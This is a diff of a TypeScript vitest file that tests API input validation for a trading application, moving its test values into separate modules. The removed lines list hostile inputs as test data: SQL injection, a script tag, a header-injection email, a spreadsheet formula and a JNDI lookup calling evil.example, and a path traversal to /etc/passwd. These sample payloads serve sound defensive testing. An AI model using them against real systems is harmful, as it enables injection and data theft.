@@ -1,12 +1,12 @@
 import { type Caller, matrix } from '@nairadesk/contract/access';
-import { alertDefaults } from '@nairadesk/contract/alerts';
 import type { Endpoint } from '@nairadesk/contract/endpoint';
 import { beforeAll, describe, expect, it } from 'vitest';
 import * as z from 'zod/mini';
 import { routes } from '../../src/app.ts';
-import { makeBrowser } from '../push-service.ts';
 import { openTrade } from '../trade.ts';
 import { type Person, useWorld } from '../world.ts';
+import { rightFor } from './right-values.ts';
+import { onlyText, Raw, wrongFor } from './wrong-values.ts';
 
 const world = useWorld({ rateLimit: false });
 const endpoints = routes.map(({ endpoint }) => endpoint);
@@ -23,187 +23,6 @@ beforeAll(async () => {
 });
 
 type Json = Record<string, unknown>;
-
-/** A value to the letter: what JSON.stringify would not write. */
-class Raw {
-  readonly text: string;
-  constructor(text: string) {
-    this.text = text;
-  }
-}
-
-const long = 'a'.repeat(20_000);
-/** Right for no field at all. */
-const neverRight: [string, unknown][] = [
-  ['NUL', 'a\0b'],
-  ['an escape sequence', 'a\u001b[31mb'],
-  ['a lone surrogate', 'a\ud800b'],
-  ['an object', { $ne: null }],
-  ['a list in a list', [['a']]],
-  ['20,000 letters', long],
-  ['2^53 + 1', new Raw('9007199254740993')],
-  ['a number without end', new Raw('1e400')],
-  ['a number in a list', [1]],
-];
-/** Wrong wherever one line is asked for. */
-const wrongInOneLine: [string, unknown][] = [
-  ['a header of a mail', 'a@example.com\r\nBcc: b@example.com'],
-  ['a line separator', 'a\u2028b'],
-  ['a turned direction', 'a\u202egpj.exe'],
-  ['a mark from right to left', 'a\u200fb'],
-  ['an Arabic letter mark', 'a\u061cb'],
-  ['nothing that can be seen', '\u200b\u200d\u2060'],
-];
-const notAnAddress = [
-  ...['a b@c.ng', 'a@b', '"a"@b.ng', 'a@b.ng,c@d.ng', 'Ada <a@b.ng>', '<a@b.ng>', 'a@b..ng', '@b.ng'],
-  ...['a@[127.0.0.1]', 'a\u200b@b.ng', 'a\u00ad@b.ng', 'a＠b.ng', 'a@b.ng\u200b'],
-].map((value) => [value, value] as [string, unknown]);
-const notANumber = [
-  ...[
-    '１２３４５６７８９０',
-    '١٢٣٤٥٦٧٨٩٠',
-    '1e3',
-    '-1',
-    '0x10',
-    '1,000',
-    '1_000',
-    'NaN',
-    'Infinity',
-    '1.2.3',
-    '1'.repeat(400),
-  ],
-].map((value) => [value, value] as [string, unknown]);
-const asNumber = (text: string): [string, unknown] => [`the number ${text}`, new Raw(text)];
-const notMoney = ['-1', '1e21'].map(asNumber);
-/** An order's amount and quantity are rounded instead: clients compute them in floating point. */
-const tooFine = ['1e-7', '0.1234567890123456789'].map(asNumber);
-const roundedFields = ['amount', 'quantity'];
-/** Text like any other, to us: what another program would take for more. */
-const onlyText = [
-  "' or 1=1 --",
-  '"><script>alert(1)</script>',
-  '=HYPERLINK("https://evil.example")',
-  `\${jndi:ldap://evil.example} {{7*7}} %s %n`,
-  '../../../../etc/passwd',
-  '__proto__',
-  'Z̸̢̛͎a̴l̷g̶o̸ 😀 \u200d أدا',
-];
-
-const lines = [
-  'message',
-  'text',
-  'words',
-  'response',
-  'description',
-  'reference',
-  'note',
-  'reason',
-  'strangerReason',
-  'codesReason',
-  'flagReason',
-  'repeatReason',
-  'deliveryCode',
-  'memo',
-];
-const money = [
-  'amount',
-  'quantity',
-  'minAmount',
-  'maxAmount',
-  'dailyCap',
-  'buyingPrice',
-  'sellingPrice',
-  'tolerance',
-  'referenceFrom',
-  'approvalFrom',
-];
-
-function wrongFor(field: string): [string, unknown][] {
-  const name = field.split('.').at(-1) ?? '';
-  const secret = /password|token|code$/i.test(name);
-  return [
-    ...neverRight,
-    ...(lines.includes(name) || secret ? [] : wrongInOneLine),
-    ...(/email/i.test(name) ? notAnAddress : []),
-    ...(money.includes(name) ? [...notANumber, ...notMoney] : []),
-    ...(money.includes(name) && !roundedFields.includes(name) ? tooFine : []),
-    ...(name === 'accountNumber' ? notANumber : []),
-  ];
-}
-
-/** Something right for a field of that name, so that nothing else can be the reason of a refusal. */
-function rightFor(name: string): unknown {
-  const right: Json = {
-    ...trade.buy,
-    orderId: crypto.randomUUID(),
-    status: 'successful',
-    role: 'user',
-    suspended: false,
-    frozen: false,
-    pinned: false,
-    email: `${crypto.randomUUID()}@example.com`,
-    phone: '08031234567',
-    country: 'Nigeria',
-    cardCountry: 'US',
-    assetType: 'cryptocurrency',
-    minAmount: '1000',
-    maxAmount: '2000000',
-    dailyCap: '2000000',
-    on: false,
-    tolerance: '60',
-    lateMinutes: 6,
-    strangers: 'warn',
-    referenceFrom: '100000',
-    buyingPrice: '1600',
-    sellingPrice: '1500',
-    accountNumber: '0123456789',
-    direction: 'in',
-    kind: 'reversal',
-    form: 'physical',
-    receipt: 'cash',
-    from: '25',
-    to: '100',
-    rate: '1150',
-    minimum: '25',
-    maximum: '500',
-    minutes: 10,
-    faceValue: '100',
-    verdict: 'changed',
-    photoIds: [],
-    keepsProof: false,
-    id: crypto.randomUUID(),
-    side: 'front',
-    bytes: 1_000,
-    sha256: 'ab'.repeat(32),
-    number: 0,
-    charge: 'fees',
-    takesBack: crypto.randomUUID(),
-    arrivedAt: '2026-11-22T12:00:00Z',
-    outcome: 'settled',
-    hours: 24,
-    remember: false,
-    noMemo: true,
-    likely: true,
-    moneyCame: true,
-    confirmedLoss: true,
-    confirmedOther: true,
-    confirmed: true,
-    version: 1,
-    priceVersion: 1,
-    priceJumpPercent: 12,
-    approvalFrom: '2000000',
-    approveAccounts: true,
-    approveReversals: true,
-    cardPhotoDays: 90,
-    cardComplaintHours: 48,
-    change: { kind: 'complete-order', orderId: crypto.randomUUID() },
-    deliveryEmail: 'ada@example.com',
-    walletAddress: 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
-    ...makeBrowser('https://fcm.googleapis.com').subscription,
-    ...alertDefaults,
-  };
-  return name in right ? right[name] : 'Some text of theirs';
-}
 
 interface Schema {
   properties?: Record<string, Schema>;
@@ -226,12 +45,12 @@ function sampleOf(endpoint: Endpoint): { body: Json; fields: string[] } {
     if (columns.length > 0) {
       const row = columns.map((column) => [
         column,
-        rightFor(isOfCards && column === 'country' ? 'cardCountry' : column),
+        rightFor(trade, isOfCards && column === 'country' ? 'cardCountry' : column),
       ]);
       body[name] = [Object.fromEntries(row)];
       fields.push(...columns.map((column) => `${name}.0.${column}`));
     } else {
-      body[name] = items ? ['Bitcoin'] : rightFor(name);
+      body[name] = items ? ['Bitcoin'] : rightFor(trade, name);
       fields.push(name);
     }
   }
